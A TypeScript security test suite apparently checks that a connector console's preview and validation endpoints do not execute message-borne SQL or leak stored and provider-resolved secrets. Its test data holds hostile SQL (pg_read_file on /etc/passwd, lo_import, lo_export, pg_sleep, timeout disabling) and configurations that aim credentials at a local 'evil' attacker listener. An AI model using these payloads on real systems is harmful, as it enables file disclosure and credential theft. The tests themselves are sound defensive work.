import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { keepingLetters, sinkConfig, sourceConfig } from '../support/connectors.ts';
import { KafkaTraffic } from '../support/kafka-traffic.ts';
import { database, uniqueName, type TestDatabase } from '../support/services.ts';
import { SqlClient } from '../support/sql-client.ts';
import { until } from '../support/until.ts';
import { WorkerProcess } from '../support/worker-process.ts';

type Config = Readonly<Record<string, string>>;

interface Answer {
  readonly status: number;
  readonly text: string;
}

interface Validated {
  readonly configs: readonly { readonly value: { readonly name: string; readonly errors: readonly string[] } }[];
  readonly withheld: { readonly keys: readonly string[] };
}

const MARK = '[hidden]';
/** Can be split at its dot, its dash and its blank. */
const SECRET = 'zebra.quagga-okapi tapir';
const PIECES = ['zebra', 'quagga', 'okapi', 'tapir'];
const HIDDEN_ROW = '4711471147';
const TRANSFORMS = 'org.apache.kafka.connect.transforms';
const AVRO = 'io.confluent.connect.avro.AvroConverter';
const SINK = 'com.db.kafka.connect.sink.DbSinkConnector';
const SOURCE = 'com.db.kafka.connect.source.DbSourceConnector';

describe('secrets that the caller of a preview or a validation did not give', function () {
  let worker: WorkerProcess;
  /** A worker of the same group whose console is read-only. */
  let readOnly: WorkerProcess;
  let kafka: KafkaTraffic;
  let db: TestDatabase;
  let sql: SqlClient;
  let folder = '';
  /** An address that an attacker listens at. */
  let evil: Server;
  const logins: Socket[] = [];
  /** The topic of the stored connectors, and one of the attacker's. */
  const topic = uniqueName('held').replaceAll('-', '_');
  const foreign = uniqueName('foreign').replaceAll('-', '_');
  const answers: string[] = [];

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'sluice-held-'));
    [db, kafka] = await Promise.all([database('held-secrets'), KafkaTraffic.shared()]);
    await writeFile(join(folder, 'db.properties'), `password=${db.password}\nother=${SECRET}\n`);
    const environment = { HELD_PASSWORD: db.password, HELD_SECRET: SECRET };
    const providers = {
      'config.providers': 'env,file',
      'config.providers.env.class': 'org.apache.kafka.common.config.provider.EnvVarConfigProvider',
      'config.providers.file.class': 'org.apache.kafka.common.config.provider.FileConfigProvider',
    };
    worker = await WorkerProcess.start({ environment, properties: providers });
    const { listeners: _own, ...shared } = worker.properties;
    readOnly = await WorkerProcess.start({ environment, properties: { ...shared, 'console.read.only': 'true' } });
    sql = new SqlClient(db);
    await sql.run(
      'create table vault (secret text)',
      `insert into vault values ('${HIDDEN_ROW}')`,
      'create table target (id int8 primary key, a int8)',
      'insert into target values (1, 1)',
      'create sequence touched',
      `create table ${topic} (ts timestamptz(3), n int8)`,
    );
    await Promise.all([topic, foreign].map((name) => kafka.createTopic(name)));
    await kafka.produce(topic, [{ value: `${topic} n=1i 1700000000000` }, { value: change(UPDATE) }]);
    await kafka.produce(foreign, [{ value: `${topic} n=2i 1700000000000` }, { value: change(UPDATE) }]);
    await create('lines', lines());
    await create('changes', { ...lines(), 'protocol.type': 'cdc_db', 'timestamp.precision': 'ms' });
    await create('provided', { ...lines(), 'connection.password': '${env:HELD_PASSWORD}' });
    evil = createServer((socket) => {
      logins.push(socket);
      socket.destroy();
    });
    evil.listen(0, '127.0.0.1');
    await once(evil, 'listening');
  });

  beforeEach(() => {
    logins.length = 0;
  });

  after(async () => {
    evil?.close();
    await readOnly?.discard();
    await worker?.discard();
    await sql?.close();
    await rm(folder, { recursive: true, force: true });
  });

  const lines = (): Config =>
    sinkConfig(db, { topics: topic, 'protocol.type': 'line_lp', 'timestamp.precision': 'ms', 'tasks.max': '1' });

  async function create(name: string, config: Config, state = 'STOPPED'): Promise<void> {
    const { status, body } = await worker.rest.post('/connectors', { name, config, initial_state: state });
    assert.equal(status, 201, JSON.stringify(body));
    await until(async () => (await readOnly.rest.get(`/connectors/${name}`)).status === 200, 'both know it');
  }

  const change = (statement: string) =>
    JSON.stringify({ kind: 'update', database: db.database, schema: 'public', table: 'target', statement });

  async function ask(method: string, path: string, body: unknown, asked = worker): Promise<Answer> {
    const headers = { 'Content-Type': 'application/json' };
    const response = await fetch(asked.url + path, { method, headers, body: JSON.stringify(body) });
    const answer = { status: response.status, text: await response.text() };
    answers.push(answer.text);
    for (const piece of [...PIECES, HIDDEN_ROW]) assert.ok(!answer.text.includes(piece), `${path}: ${answer.text}`);
    return answer;
  }

  const evilUrl = () => `jdbc:db://127.0.0.1:${String((evil.address() as AddressInfo).port)}/${db.database}`;
  const stored = async (name: string) => (await worker.rest.get<Config>(`/connectors/${name}/config`)).body;
  /** As the console sends a configuration back that it was shown. */
  const marked = async (name: string): Promise<Config> => {
    const config = await stored(name);
    return config['connection.password']?.startsWith('${') === true
      ? config
      : { ...config, 'connection.password': MARK };
  };
  const untouched = async () => {
    assert.equal(await sql.number('select count(*) from target where id = 1 and a = 1'), 1);
    assert.deepEqual(await sql.rows('select is_called from touched'), [['f']]);
    assert.equal(await sql.number('select count(*) from pg_largeobject_metadata'), 0);
    assert.equal(await sql.number(`select count(*) from ${topic}`), 0);
  };
  const viaConsole = (
    config: Config,
    request: object,
    { connector = '', query = '', plugin = 'DbSink', asked = worker },
  ) => {
    const path = `/ui/connector-plugins/${plugin}/preview?${connector === '' ? '' : `connector=${connector}&`}${query}`;
    return ask('POST', path, { config, ...request }, asked);
  };

  const UPDATE = `update target set a = (select secret from vault)::int8 + nextval('touched') where id = 1`;
  const STATEMENTS = [
    'update target set a = (select secret from vault)::int2',
    UPDATE,
    `update target set a = length(pg_read_file('/etc/passwd'))`,
    `update target set a = lo_import('/etc/hostname')`,
    `update target set a = lo_export(lo_from_bytea(0, 'x'), '/tmp/exported')`,
    `update target set a = nextval('touched')`,
    `update target set a = 1 where pg_sleep(9.5) is null`,
    `delete from target where set_config('statement_timeout', '0', false) is not null`,
  ];

  it('S2: no preview executes SQL with a stored password or one of a config provider', async () => {
    const own = STATEMENTS.map((statement) => ({ messages: [{ value: change(statement) }] }));
    const [update] = [{ messages: [{ value: change(UPDATE) }] }];
    const changes = await marked('changes');
    const asChanges = { 'protocol.type': 'cdc_db' };
    const make = {
      transforms: 'make,take',
      'transforms.make.type': `${TRANSFORMS}.HoistField$Value`,
      'transforms.make.field': 'a',
      'transforms.take.type': `${TRANSFORMS}.InsertField$Value`,
      'transforms.take.static.field': 'sql',
      'transforms.take.static.value': change(UPDATE),
    };
    const attacks: [Config, object, string, RegExp][] = [
      // The attack of the report, word for word, then with other statements.
      ...own.map((request): [Config, object, string, RegExp] => [
        { ...changes, 'connection.password': MARK, 'protocol.type': 'cdc_db' },
        request,
        'changes',
        /only messages of the topics/,
      ]),
      [{ ...(await marked('lines')), ...asChanges }, update, 'lines', /takes protocol\.type only as stored/],
      [{ ...(await marked('lines')), ...asChanges }, { topic }, 'lines', /takes protocol\.type only as stored/],
      [{ ...(await marked('provided')), ...asChanges }, { topic }, 'provided', /takes protocol\.type only as stored/],
      [{ ...(await marked('provided')), ...asChanges }, update, '', /is not sent to the address/],
      [changes, { topic }, 'changes', /cdc_db messages are SQL/],
      [{ ...changes, ...make }, { topic }, 'changes', /cdc_db messages are SQL/],
      [changes, { topic: foreign }, 'changes', /only messages of the topics/],
      [{ ...changes, topics: foreign }, { topic: foreign }, 'changes', /only messages of the topics/],
      [{ ...changes, 'topics.regex': '.*', topics: '' }, { topic: foreign }, 'changes', /only messages of the topics/],
    ];
    for (const [config, request, connector, message] of attacks) {
      const answer = await viaConsole(config, request, { connector });
      assert.equal(answer.status, 400, answer.text);
      assert.match(answer.text, message);
      const refused = await viaConsole(config, request, { connector, asked: readOnly });
      assert.equal(refused.status, 403, refused.text);
      for (const name of [connector, 'lines', 'nobody']) {
        const { status, text } = await ask('POST', '/connector-plugins/DbSink/preview', {
          config: { ...config, name, 'connection.password': '${env:HELD_PASSWORD}' },
          ...request,
        });
        assert.equal(status, 400, text);
      }
    }
    const place = { topic, partition: 0, offset: 1 };
    const peeked = await ask('POST', '/ui/connectors/changes/messages/preview', place);
    assert.deepEqual([peeked.status, peeked.text.includes('cdc_db messages are SQL')], [400, true], peeked.text);
    assert.equal((await ask('POST', '/ui/connectors/changes/messages/preview', place, readOnly)).status, 403);
    await untouched();
  });

  it('S2: no preview executes SQL of dead letters', async () => {
    const source = uniqueName('failing').replaceAll('-', '_');
    const letters = `${source}_letters`;
    await Promise.all([source, letters].map((name) => kafka.createTopic(name)));
    const failing = change(`update missing set a = nextval('touched')`);
    await kafka.produce(source, [{ value: failing }]);
    const config = { ...(await stored('changes')), ...keepingLetters(letters), name: source, topics: source };
    await create(source, config, 'RUNNING');
    await kafka.read(letters, (all) => all.length === 1);
    await sql.run('create table missing (a int8)', 'insert into missing values (1)');
    for (const body of [{}, { transforms: {} }]) {
      const { status, text } = await ask('POST', `/connectors/${source}/dead-letters/preview`, body);
      assert.deepEqual([status, text.includes('cdc_db messages are SQL')], [400, true], text);
    }
    await worker.rest.delete(`/connectors/${source}`);
    await untouched();
  });

  it('S2, S3: a preview sends no such secret to another address, user, database, class or format', async () => {
    const url = evilUrl();
    const changed: Config[] = [
      { 'connection.url': url },
      { 'connection.url': `${url}?user=${db.user}` },
      { 'connection.database': 'postgres' },
      { 'connection.user': 'another' },
      { 'connector.class': 'DbSink' },
      { 'protocol.type': 'json_db' },
      { 'value.converter': 'org.apache.kafka.connect.json.JsonConverter' },
    ];
    for (const connector of ['lines', 'provided']) {
      const config = await marked(connector);
      const { 'connection.user': _user, ...without } = config;
      for (const each of [...changed.map((more) => ({ ...config, ...more })), without]) {
        const answer = await viaConsole(each, { topic }, { connector });
        assert.equal(answer.status, 400, answer.text);
        assert.match(answer.text, /is not sent to the address|only as stored/);
      }
    }
    const references = ['${env:HELD_PASSWORD}', `\${file:${folder}/db.properties:password}`];
    for (const reference of [...references, 'x${env:HELD_SECRET}', '${env:NO_SUCH}']) {
      const config = { ...lines(), 'connection.password': reference };
      const typed: Config[] = [
        config,
        { ...config, 'connection.url': url },
        { ...config, name: 'lines' },
        { ...config, name: 'provided', 'connection.url': url },
        { ...lines(), 'connection.url': url.replace('//', `//u:${reference}@`) },
        { ...lines(), 'connection.url': `${url}?password=${reference}` },
        { ...lines(), 'connection.url': `jdbc:db://${reference}.example:1/x` },
        { ...lines(), 'connection.url': url, 'connection.user': reference },
      ];
      for (const each of typed) {
        for (const request of [{ topic }, { messages: [{ value: 'a b=1' }] }]) {
          const paths = ['/connector-plugins/DbSink/preview', '/ui/connector-plugins/DbSink/preview?connector=lines'];
          for (const path of paths) {
            const { status, text } = await ask('POST', path, { config: each, ...request });
            assert.equal(status, 400, text);
          }
        }
      }
    }
    const avro = {
      'connector.class': SINK,
      'value.converter': AVRO,
      'value.converter.schema.registry.url': url.replace('jdbc:db', 'http').replace(/\/[^/]*$/, ''),
      'value.converter.basic.auth.credentials.source': 'USER_INFO',
      'value.converter.basic.auth.user.info': 'u:${env:HELD_SECRET}',
    };
    const client = {
      'connector.class': SINK,
      'consumer.override.bootstrap.servers': `127.0.0.1:${String((evil.address() as AddressInfo).port)}`,
      'consumer.override.security.protocol': 'SASL_PLAINTEXT',
      'consumer.override.sasl.mechanism': 'PLAIN',
      'consumer.override.sasl.jaas.config':
        'org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="${env:HELD_SECRET}";',
    };
    for (const config of [avro, client]) {
      for (const request of [{ topic }, { messages: [{ value: { base64: 'AAAAAAFh' } }] }]) {
        const decoded = await viaConsole(config, request, { query: 'decode=true' });
        assert.equal(decoded.status, 400, decoded.text);
        assert.match(decoded.text, /is not sent to the address/);
      }
    }
    assert.equal(logins.length, 0);
  });

  it('S3: a form that is typed sends no value of a config provider anywhere', async () => {
    const url = evilUrl();
    const reference = '${env:HELD_PASSWORD}';
    const file = `\${file:${folder}/db.properties:password}`;
    const config = { ...lines(), 'connection.url': url };
    const source = { ...sourceConfig(db, { 'topic.prefix': 'p', mode: 'bulk' }), 'connection.url': url };
    const forms: [Config, string, string][] = [
      [{ ...config, 'connection.password': reference }, '', SINK],
      [{ ...config, 'connection.password': file }, '', SINK],
      [{ ...config, 'connection.password': `${reference}x` }, '', SINK],
      [{ ...config, 'connection.user': reference }, '', SINK],
      [{ ...config, 'connection.url': url.replace('//', `//u:${reference}@`) }, '', SINK],
      [{ ...config, 'connection.url': `${url}?password=${file}` }, '', SINK],
      [{ ...config, 'batch.size': reference }, '', SINK],
      [{ ...source, 'connection.password': reference }, '', SOURCE],
      [{ ...(await marked('provided')), 'connection.url': url }, 'provided', SINK],
      [{ ...(await marked('provided')), 'connection.url': url, 'connection.password': file }, 'provided', SINK],
      [{ ...(await marked('lines')), 'connection.url': url, 'connection.password': reference }, 'lines', SINK],
      [{ ...(await marked('lines')), 'connection.url': url }, 'lines', SINK],
      [{ ...(await marked('lines')), 'connection.url': url }, 'provided', SINK],
    ];
    for (const asked of [worker, readOnly]) {
      for (const [form, connector, plugin] of forms) {
        const query = connector === '' ? '' : `?connector=${connector}`;
        const answer = await ask('PUT', `/ui/connector-plugins/${plugin}/validate${query}`, form, asked);
        assert.equal(answer.status, 200, answer.text);
        const { withheld } = JSON.parse(answer.text) as Validated;
        assert.ok(withheld.keys.length > 0, JSON.stringify(form));
        const refused = await ask('PUT', `/ui/connector-plugins/${plugin}/connection${query}`, form, asked);
        assert.equal(refused.status, asked === readOnly ? 403 : 400, refused.text);
        assert.equal(logins.length, 0, JSON.stringify(form));
      }
    }
    // So it would show: a password that is typed is sent, but not by a console that only reads.
    await ask('PUT', `/ui/connector-plugins/${SINK}/validate`, config, readOnly);
    assert.equal(logins.length, 0);
    await ask('PUT', `/ui/connector-plugins/${SINK}/validate`, config);
    assert.ok(logins.length > 0);
    logins.length = 0;
    // Connect's own validation is for those who may create connectors.
    await ask('PUT', `/connector-plugins/${SINK}/config/validate`, { ...config, 'connection.password': reference });
    assert.ok(logins.length > 0);
  });

  it('S3: a form of what is stored is checked with the stored secret; a console that only reads resolves nothing', async () => {
    const check = async (name: string, asked: WorkerProcess, more: Config = {}) => {
      const path = `/ui/connector-plugins/${SINK}/validate?connector=${name}`;
      const { status, text } = await ask('PUT', path, { ...(await marked(name)), ...more }, asked);
      assert.equal(status, 200, text);
      const { configs, withheld } = JSON.parse(text) as Validated;
      return { errors: configs.flatMap(({ value }) => value.errors), keys: withheld.keys };
    };
    const nothing = { errors: [], keys: [] };
    for (const name of ['lines', 'provided']) assert.deepEqual(await check(name, worker), nothing);
    assert.deepEqual(await check('lines', readOnly), nothing);
    for (const name of ['lines', 'provided']) {
      const path = `/ui/connector-plugins/${SINK}/connection?connector=${name}`;
      const { status, text } = await ask('PUT', path, await marked(name));
      assert.equal(status, 200, text);
      assert.match(text, /"level":"ok","about":"database","message":"PostgreSQL /);
    }
    assert.deepEqual(await check('provided', readOnly), { errors: [], keys: ['connection.password'] });
    // A value of a provider cannot be guessed by what an option takes.
    for (const key of ['batch.size', 'protocol.type', 'tasks.max', 'errors.tolerance']) {
      const answer = await check('lines', readOnly, { [key]: '${env:HELD_SECRET}' });
      assert.deepEqual(answer, { errors: [], keys: [key] });
    }
    const missing = await check('lines', readOnly, { 'batch.size': `\${file:${folder}/no-such-file:key}` });
    assert.deepEqual(missing.errors, [], 'no file was looked for');
  });

  const inTransforms = (): Config[] => {
    const one = (type: string, options: Config, alias = 't'): Config => ({
      transforms: alias,
      [`transforms.${alias}.type`]: `${TRANSFORMS}.${type}`,
      ...Object.fromEntries(Object.entries(options).map(([key, value]) => [`transforms.${alias}.${key}`, value])),
    });
    const value = '${env:HELD_SECRET}';
    const file = `\${file:${folder}/db.properties:other}`;
    const router = { regex: '.*', replacement: value };
    return [
      one('InsertField$Value', { 'static.field': 'f', 'static.value': value }),
      one('InsertField$Value', { 'static.field': value, 'static.value': 'v' }),
      one('InsertField$Value', { 'static.field': value, 'static.value': 'v' }, 'secret'),
      one('InsertField$Value', { 'static.field': file, 'static.value': 'v' }, 'connection.password'),
      one('InsertField$Value', { 'topic.field': value }, 'password'),
      one('InsertField$Value', { 'static.field': `x${value}`, 'static.value': `y${value}` }, 'url'),
      one('ReplaceField$Value', { renames: `a:${value}` }),
      one('HoistField$Value', { field: value }),
      one('HoistField$Key', { field: file }),
      one('ExtractField$Value', { field: value }),
      one('ValueToKey', { fields: value }),
      one('MaskField$Value', { fields: 'a', replacement: value }),
      one('Cast$Value', { spec: value }),
      one('Flatten$Value', { delimiter: value }),
      one('SetSchemaMetadata$Value', { 'schema.name': value }),
      one('TimestampRouter', { 'topic.format': value }),
      one('InsertHeader', { header: 'h', 'value.literal': value }),
      one('InsertHeader', { header: value, 'value.literal': 'x' }),
      one('RegexRouter', router),
      {
        transforms: 'one,two',
        'transforms.one.type': `${TRANSFORMS}.RegexRouter`,
        'transforms.one.regex': '.*',
        'transforms.one.replacement': value,
        'transforms.two.type': `${TRANSFORMS}.RegexRouter`,
        'transforms.two.regex': '(.)(.*)',
        'transforms.two.replacement': '$1_$2',
      },
      { transforms: value },
      { transforms: 't', 'transforms.t.type': value },
      {
        ...one('Filter', { predicate: 'p' }),
        predicates: 'p',
        'predicates.p.type': `${TRANSFORMS}.predicates.TopicNameMatches`,
        'predicates.p.pattern': value,
      },
    ];
  };
  const inOptions = (): Config[] =>
    ['table.name.format', 'pk.fields', 'fields.whitelist', 'batch.size', 'protocol.type', 'name', 'topics'].flatMap(
      (key) => [{ [key]: '${env:HELD_SECRET}' }, { [key]: `x\${file:${folder}/db.properties:other}` }],
    );

  it('S5: no preview resolves a variable in what shapes records, so that no spelling shows its value', async () => {
    let refused = 0;
    for (const more of [...inTransforms(), ...inOptions()]) {
      for (const base of [lines(), await marked('lines')]) {
        const asks = [
          ask('POST', '/connector-plugins/DbSink/preview', {
            config: { ...base, ...more },
            messages: [{ value: 'a' }],
          }),
          viaConsole({ ...base, ...more }, { messages: [{ value: 'a' }] }, { connector: 'lines' }),
          viaConsole({ ...base, ...more }, { topic }, { connector: 'lines' }),
        ];
        for (const { status, text } of await Promise.all(asks)) {
          assert.equal(status, 400, text);
          assert.match(text, /in passwords and addresses only, not in /);
          refused += 1;
        }
      }
    }
    assert.ok(refused > 200, String(refused));
  });

  it('S5: nor is one resolved that is stored, or that comes with other transforms of dead letters', async () => {
    const source = uniqueName('letters').replaceAll('-', '_');
    const letters = `${source}_dlq`;
    await Promise.all([source, letters].map((name) => kafka.createTopic(name)));
    await kafka.produce(source, [{ value: 'no line' }]);
    await create(source, { ...lines(), ...keepingLetters(letters), topics: source }, 'RUNNING');
    await kafka.read(letters, (all) => all.length === 1);
    const path = `/connectors/${source}/dead-letters/preview`;
    assert.equal((await ask('POST', path, {})).status, 200);
    for (const transforms of inTransforms()) {
      const { status, text } = await ask('POST', path, { transforms });
      assert.equal(status, 400, text);
      assert.match(text, /in passwords and addresses only, not in /);
    }
    await worker.rest.delete(`/connectors/${source}`);
    const hoisting = uniqueName('hoisting');
    await create(hoisting, { ...lines(), ...inTransforms()[7] });
    const place = { topic, partition: 0, offset: 0 };
    const peeked = await ask('POST', `/ui/connectors/${hoisting}/messages/preview`, place);
    assert.equal(peeked.status, 400, peeked.text);
    assert.match(peeked.text, /not in transforms\.t\.field/);
    await worker.rest.delete(`/connectors/${hoisting}`);
  });

  it('previews what is stored with its secrets: other options, transforms, and messages of the topic', async () => {
    const route = {
      transforms: 'route',
      'transforms.route.type': `${TRANSFORMS}.RegexRouter`,
      'transforms.route.regex': '.*',
      'transforms.route.replacement': 'routed',
    };
    for (const connector of ['lines', 'provided']) {
      const config = { ...(await marked(connector)), ...route, 'batch.size': '7' };
      const answer = await viaConsole(config, { topic, count: 2 }, { connector });
      assert.equal(answer.status, 200, answer.text);
      const { records } = JSON.parse(answer.text) as { records: { rows?: unknown[]; record: { topic: string } }[] };
      assert.deepEqual([records[0]?.rows?.length, records[0]?.record.topic], [1, 'routed']);
    }
    const api = await ask('POST', '/connector-plugins/DbSink/preview', { config: await stored('provided'), topic });
    assert.equal(api.status, 200, api.text);
    const place = { topic, partition: 0, offset: 0 };
    const peeked = await ask('POST', '/ui/connectors/provided/messages/preview', place);
    assert.equal(peeked.status, 200, peeked.text);
    await untouched();
  });

  it('shows none of these secrets in any answer or line of the log', () => {
    for (const piece of [...PIECES, HIDDEN_ROW]) {
      for (const log of [worker.log, readOnly.log]) assert.ok(!log.includes(piece), piece);
    }
    assert.ok(answers.length > 300, String(answers.length));
  });
});
